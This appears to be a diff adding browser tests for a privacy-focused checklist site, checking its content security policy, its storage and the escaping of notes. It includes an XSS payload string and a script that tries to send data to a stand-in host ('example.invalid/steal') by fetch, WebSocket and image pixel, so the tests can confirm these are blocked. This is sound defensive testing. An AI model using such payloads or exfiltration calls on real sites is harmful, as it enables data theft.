@@ -1,0 +1,146 @@
+"""Privacy, enforced by the browser: the policy holds, nothing leaves, nothing is stored, notes
+are text. Each test backs a claim of the about and privacy page."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+
+from tests.test_checklist_browser import PAGE, answer, wait_for_python
+from tests.test_site_browser import page_paths, search
+
+LISTEN = """window.__csp = [];
+document.addEventListener('securitypolicyviolation',
+  e => window.__csp.push(e.violatedDirective + ' ' + e.blockedURI));"""
+XSS = '<img src=x onerror="window.__xss=1"><script>window.__xss=2</script>'
+
+
+@pytest.fixture
+def watched(context):
+    context.add_init_script(LISTEN)
+    return context.new_page()
+
+
+def use_the_checklist(page, tmp_path) -> None:
+    """A full session: answers, a note, copy, show, save, clear, open."""
+    page.goto(PAGE)
+    wait_for_python(page)
+    for item in ["adult", "images-of-own-children", "lives-with-children"]:
+        answer(page, item, "yes")
+    page.locator("#q-adult summary").click()
+    page.locator("#note-adult").fill(XSS)
+    page.locator('[data-prompt="conference"]').wait_for()
+    page.get_by_role("button", name="Copy record").click()
+    page.get_by_role("button", name="Show the record").click()
+    with page.expect_download() as download:
+        page.get_by_role("button", name="Save to a file").click()
+    saved = tmp_path / "session.json"
+    download.value.save_as(saved)
+    page.once("dialog", lambda dialog: dialog.accept())
+    page.get_by_role("button", name="Clear all answers").click()
+    page.locator(".checklist__file").set_input_files(saved)
+    page.get_by_text("Opened “session.json”").wait_for()
+
+
+def test_no_policy_violation_while_reading_searching_and_using_the_checklist(
+    watched, built_site, tmp_path
+):
+    page = watched
+    violations = {}
+    for path in page_paths(built_site):
+        page.goto(path.lstrip("/"))
+        page.wait_for_load_state("load")
+        if found := page.evaluate("window.__csp"):
+            violations[path] = found
+    search(page, "2.9")
+    use_the_checklist(page, tmp_path)
+    violations["checklist session"] = page.evaluate("window.__csp")
+    assert {k: v for k, v in violations.items() if v} == {}
+
+
+def test_a_script_that_tries_to_send_data_elsewhere_is_blocked(watched):
+    page = watched
+    page.goto(PAGE)
+    outcome = page.evaluate("""async () => {
+      const results = {};
+      try { await fetch('http://example.invalid/steal?answers=1'); results.fetch = 'sent'; }
+      catch (e) { results.fetch = 'blocked'; }
+      try {
+        const socket = new WebSocket('ws://example.invalid/');
+        results.socket = await new Promise(r => { socket.onopen = () => r('open');
+                                                   socket.onerror = () => r('blocked'); });
+      } catch (e) { results.socket = 'blocked'; }
+      results.image = await new Promise(r => { const i = new Image();
+        i.onload = () => r('loaded'); i.onerror = () => r('blocked');
+        i.src = 'http://example.invalid/pixel.gif'; });
+      return results;
+    }""")
+    assert outcome == {"fetch": "blocked", "socket": "blocked", "image": "blocked"}
+    blocked = " ".join(page.evaluate("window.__csp"))
+    assert "connect-src" in blocked and "img-src" in blocked
+
+
+def test_after_a_full_checklist_session_nothing_is_stored(context, watched, tmp_path):
+    page = watched
+    use_the_checklist(page, tmp_path)
+    search(page, "harm")
+    stored = page.evaluate("""async () => ({
+      local: Object.keys(localStorage), session: Object.keys(sessionStorage),
+      cookie: document.cookie,
+      indexedDB: (await indexedDB.databases()).map(d => d.name),
+      caches: 'caches' in window ? await caches.keys() : [],
+    })""")
+    assert stored == {"local": [], "session": [], "cookie": "", "indexedDB": [], "caches": []}
+    assert context.cookies() == []
+
+
+def test_markup_in_notes_is_text_in_the_panel_the_copied_record_and_the_print_view(watched):
+    page = watched
+    page.goto(PAGE)
+    wait_for_python(page)
+    answer(page, "images-of-own-children", "yes")
+    page.locator("#q-images-of-own-children summary").click()
+    page.locator("#note-images-of-own-children").fill(XSS)
+    record = page.locator(".checklist__record")
+    page.wait_for_function(
+        "() => document.querySelector('.checklist__record').textContent.includes('onerror')"
+    )
+    page.get_by_role("button", name="Show the record").click()
+    assert f"Note: {XSS}" in record.inner_text()
+    page.get_by_role("button", name="Copy record").click()
+    page.get_by_text("Record copied").wait_for()
+    assert f"Note: {XSS}" in page.evaluate("navigator.clipboard.readText()")
+    page.emulate_media(media="print")
+    assert record.is_visible() and f"Note: {XSS}" in record.inner_text()
+    assert page.locator("#q-adult").is_hidden()  # the print view is the record
+    assert page.evaluate("window.__xss") is None
+    assert page.locator(".checklist img, .checklist__record script").count() == 0
+
+
+def test_the_privacy_page_says_what_the_tests_check(page):
+    page.goto("about/")
+    text = page.locator("article").inner_text()
+    for claim in [
+        "Nothing you type is sent anywhere",
+        "no cookies",
+        "Nothing is kept unless you save",
+        "loads nothing from any other website",
+    ]:
+        assert claim in text
+
+
+def test_the_saved_file_holds_only_answers_notes_and_edition(watched, tmp_path):
+    page = watched
+    use_the_checklist(page, tmp_path)
+    saved = json.loads((tmp_path / "session.json").read_text())
+    assert set(saved) == {
+        "format",
+        "format_version",
+        "checklist",
+        "edition",
+        "edition_number",
+        "saved_at",
+        "answers",
+        "notes",
+    }
